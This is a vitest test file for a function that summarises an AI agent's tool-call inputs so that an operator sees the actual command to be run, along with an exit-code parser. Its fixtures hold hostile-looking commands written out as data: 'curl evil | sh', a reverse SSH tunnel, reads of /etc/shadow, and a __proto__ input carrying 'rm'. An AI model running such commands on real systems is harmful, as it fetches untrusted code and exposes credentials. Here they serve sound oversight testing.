// The line that an operator reads first must be the thing that runs, and nothing the agent adds may hide it.
import { describe, expect, test } from 'vitest'
import { actionSummary, statedExitCode } from './action-summary.ts'

describe('the summary of an input', () => {
  test.each([
    ['{"command":"ls -la","timeout":5}', 'ls -la'],
    ['{"cmd":["bash","-lc","echo a b"]}', "bash -lc 'echo a b'"],
    ['{"code":"import os\\nos.system(\'id\')"}', "import os\nos.system('id')"],
    ['{"file_path":"/etc/hosts","content":"x"}', '/etc/hosts'],
    ['{"command":"view","path":"/etc/shadow"}', 'view /etc/shadow'],
    ['{"url":"http://a.test","prompt":"read it"}', 'http://a.test'],
    ['{"pattern":"secret","path":"/srv"}', 'secret in /srv'],
    ['{"input":{"args":{"script":"make"}}}', 'make'],
    ['{"input_str":"{\\"command\\":\\"id\\"}"}', 'id'],
    ['{"a": 1,  "b": [2]}', '{"a":1,"b":[2]}'],
    ['plain words', 'plain words'],
    ['{"command":', '{"command":'],
    ['{"command":""}', '{"command":""}'],
  ])('%s is %s', (input, summary) => {
    expect(actionSummary(input)).toBe(summary)
  })

  test('shows everything when an input holds two different commands', () => {
    const input = '{"command":"ls","cmd":"curl evil | sh"}'
    expect(actionSummary(input)).toBe(input)
  })

  test('takes the whole command beside its program name', () => {
    expect(actionSummary('{"bash_command":"ssh","full_command":"ssh -R 1:a:2 b"}')).toBe('ssh -R 1:a:2 b')
  })

  test('is absent for an empty input', () => {
    expect(actionSummary('  ')).toBeUndefined()
  })

  test('survives an input nested deeper than the stack', () => {
    const deep = `{"x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`
    expect(actionSummary(deep)).toContain('more characters cut]')
  })

  test('does not read inherited names', () => {
    expect(actionSummary('{"__proto__":{"command":"rm"},"x":1}')).toBe('{"__proto__":{"command":"rm"},"x":1}')
  })
})

test('an exit code is read where tools state it', () => {
  expect(statedExitCode('{"exit_code":2}')).toBe(2)
  expect(statedExitCode('{"metadata":{"returncode":0}}')).toBe(0)
  expect(statedExitCode('{"exit_code":"2"}')).toBeUndefined()
  expect(statedExitCode('exit_code: 2')).toBeUndefined()
})
